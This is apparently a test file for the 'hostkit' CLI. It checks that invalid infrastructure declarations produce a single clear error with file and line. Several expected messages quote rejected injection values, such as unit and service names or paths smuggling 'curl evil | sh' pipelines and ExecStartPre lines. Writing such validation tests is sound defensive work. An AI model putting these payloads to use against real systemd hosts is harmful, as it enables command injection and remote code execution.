/**
 * Bad declarations, through the real CLI (`hostkit dump bad.ts`): each gives exactly ONE
 * diagnostic naming the declaration and its file:line, exit code 1, and no stack trace.
 * Fixtures: test/fixtures/bad/*.ts (the ones the editor catches carry `@ts-expect-error`, which
 * `bun run check` verifies).
 */
import { describe, expect, test } from "bun:test";
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { hostkit, REPO, stackLines } from "../helpers/cli.ts";

const DIR = "test/fixtures/bad";

/** fixture → [line, the diagnostic after "error: <file>:<line>: "]. */
const EXPECTED: Record<string, [number, string]> = {
  // the issue's list
  "wrong-type.ts": [7, 'service "web" › daemon › restartSec: expected number, got "10"'],
  "unknown-option.ts": [6, 'service "web" › daemon › restartSecs: unknown option'],
  "unknown-nested-option.ts": [7, 'service "web" › daemon › isolate.writeable: unknown option'],
  "misplaced-declaration.ts": [6, 'project "toys" › daemon: "daemon" cannot be declared here'],
  "duplicate-resource.ts": [6, "directory:/srv/toys: declared twice (first at test/fixtures/bad/duplicate-resource.ts:5)"],
  "duplicate-unit.ts": [9, "systemd_service:toys.service: declared twice (first at test/fixtures/bad/duplicate-unit.ts:6)"],
  "relative-path.ts": [5, 'project "toys" › directory "srv/toys": path "srv/toys" must be absolute (start with "/")'],
  "relative-working-directory.ts": [6, 'service "web" › daemon › workingDirectory: must be an absolute path'],
  "unit-name.ts": [6, `service "web" › daemon › name: "toys web.service" is not a valid unit name: it contains characters other than letters, digits and ':-_.\\@'`],
  "unit-name-injection.ts": [6, `service "web" › daemon › name: "web.service\\nExecStartPre=/bin/sh -c 'curl evil | sh'" is not a valid unit name: it contains characters other than letters, digits and ':-_.\\@'`],
  "dependency-name.ts": [6, 'service "web" › daemon › afterTarget: "network_onlin" is neither a target alias nor a unit name'],
  "unknown-root.ts": [7, 'service "web" › rootPath("source"): unknown root "source"'],
  "unknown-storage-root.ts": [7, 'service "web" › storage "cache" › under: unknown root "cache"'],
  "unknown-listener.ts": [7, 'service "web" › listener "nope": unknown listener (declare it in daemon({ listen: { … } }) first)'],
  "unknown-storage.ts": [8, 'service "web" › daemon › isolate.writable[1]: unknown storage "cache"'],
  "hostile-service-name.ts": [5, `service "web\\"; $(curl evil | sh)\\n": a service name must start with a lowercase letter and contain only a-z, 0-9, '_' and '-' (at most 48)`],
  "hostile-account-name.ts": [5, `project "toys" › account "app'$(id)": an account name must start with a-z or '_' and contain only a-z, 0-9, '_' and '-' (with an optional final '$')`],
  "hostile-owner.ts": [5, `project "toys" › directory "/srv/toys" › owner: may contain only letters, digits, '_', '-', '.', '@'`],
  // more ways to get it wrong
  "unknown-env.ts": [8, 'service "web" › daemon › env[0]: unknown env "runtme"'],
  "newline-in-path.ts": [6, 'service "web" › daemon › [Service] WorkingDirectory=: value "/srv/web\\nExecStartPre=/bin/sh -c pwned" contains a line break or NUL'],
  "newline-in-override.ts": [6, 'service "web" › daemon › [Service] ProtectSystem=: value "strict\\nExecStartPre=/bin/sh" contains a line break or NUL'],
  "program-with-dollar.ts": [6, 'service "web" › daemon › exec[0]: program "/opt/$APP/bin/server" must not contain "$" (systemd does not expand variables in the program path)'],
  "bad-mode.ts": [6, 'project "toys" › file "/etc/toys/key" › mode: unknown mode alias "secret" (known: private_file, secret_file, secret_group_file, group_file, public_file, executable, private_dir, group_dir, public_dir, shared_dir)'],
  "decimal-mode.ts": [5, 'project "toys" › directory "/srv/toys" › mode: mode 750 is written as a decimal number'],
  "computed-decimal-mode.ts": [6, 'project "toys" › file "/etc/toys/motd" › mode: mode 0o1204 gives the group or others rights the owner lacks (r)'],
  "bad-address.ts": [6, 'service "web" › daemon › listen.http.on: address [300,0,0,1] has an octet above 255'],
  "secret-storage-mode.ts": [7, 'service "web" › storage "config" › mode: secret storage must not be accessible to others (mode 0755)'],
  "two-daemons.ts": [7, 'service "web" › daemon: a service has one daemon (use timer() or another service for more units)'],
  "prefixes-too-late.ts": [8, 'project "toys" › prefixes: must come before the first service or timer (their names use the prefixes)'],
  "no-default-export.ts": [1, "the infra file must `export default project(…)`"],
  "throws.ts": [8, "TypeError: undefined is not an object (evaluating 'ports.web.toString')"],
  "async-callback.ts": [4, 'project "toys": the callback must not be async: declarations are made synchronously'],
  "async-service.ts": [5, 'service "web": the callback must not be async: declarations are made synchronously'],
  "bad-import.ts": [4, 'cannot find module "./no-such-module.ts"'],
  "misspelled-export.ts": [3, '"projet" is not exported by "hostkit"'],
};

/** One diagnostic: the `error:` line, optionally followed by one `  hint:` line. */
function expectOneDiagnostic(stderr: string) {
  const lines = stderr.trimEnd().split("\n");
  expect(lines.filter((l) => l.startsWith("error:"))).toHaveLength(1);
  expect(lines[0]).toStartWith("error: ");
  expect(lines.slice(1).every((l) => l.startsWith("  hint: "))).toBe(true);
  expect(lines.length).toBeLessThanOrEqual(2);
  expect(stackLines(stderr)).toEqual([]);
}

test("every fixture has an expectation and every expectation a fixture", () => {
  const fixtures = readdirSync(join(REPO, DIR)).filter((f) => f.endsWith(".ts")).sort();
  expect(fixtures).toEqual(Object.keys(EXPECTED).sort());
});

describe.each(Object.entries(EXPECTED))("%s", (fixture, [line, message]) => {
  test("one diagnostic with file:line, exit 1, no stack trace", async () => {
    const r = await hostkit(["dump", `${DIR}/${fixture}`]);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe("");
    expect(r.stderr.split("\n")[0]).toBe(`error: ${DIR}/${fixture}:${line}: ${message}`);
    expectOneDiagnostic(r.stderr);
  });
});

test("the hint names what is valid", async () => {
  const cases: [string, RegExp][] = [
    ["misplaced-declaration.ts", /hint: valid inside project "toys": .*\bservice\b/],
    ["unknown-root.ts", /hint: declared roots: data$/],
    ["unknown-storage.ts", /hint: declared storage: data$/],
    ["unknown-env.ts", /hint: declared envs: runtime$/],
    ["dependency-name.ts", /hint: aliases: network_online, /],
    ["decimal-mode.ts", /hint: did you mean 0o750\? \(decimal 750 is 0o1356\)$/],
    ["computed-decimal-mode.ts", /hint: did you mean 0o644\? \(decimal 644 is 0o1204\)$/],
  ];
  for (const [fixture, hint] of cases) {
    const r = await hostkit(["dump", `${DIR}/${fixture}`]);
    expect(r.stderr.trimEnd()).toMatch(hint);
  }
});

test("render and --json report the same diagnostic", async () => {
  for (const args of [["render", `${DIR}/wrong-type.ts`, "systemd_service", "web.service"], ["dump", "--json", `${DIR}/wrong-type.ts`]]) {
    const r = await hostkit(args);
    expect(r.code).toBe(1);
    expect(r.stderr).toStartWith(`error: ${DIR}/wrong-type.ts:7: `);
  }
});

test("a syntax error is one diagnostic at its line, with the line as hint", async () => {
  const dir = mkdtempSync(join(tmpdir(), "hostkit-bad-"));
  try {
    const file = join(dir, "syntax-error.ts");
    writeFileSync(file, 'import { project } from "hostkit";\n\nexport default project("toys", (p) => {\n  p.directory("/srv/toys", { mode: 0o755 );\n});\n');
    const r = await hostkit(["dump", file]);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`error: ${file}:4: syntax error: Expected "}" but found ")"\n  hint: p.directory("/srv/toys", { mode: 0o755 );\n`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a missing infra file or --require file is a diagnostic too", async () => {
  const missing = await hostkit(["dump", "examples/nope.ts"]);
  expect(missing.code).toBe(1);
  expect(missing.stderr).toBe("error: infra file examples/nope.ts: file not found: examples/nope.ts\n");
  const req = await hostkit(["dump", "--require", "nope.ts", "examples/first-example.ts"]);
  expect(req.code).toBe(1);
  expect(req.stderr).toBe("error: --require nope.ts: file not found: nope.ts\n");
});
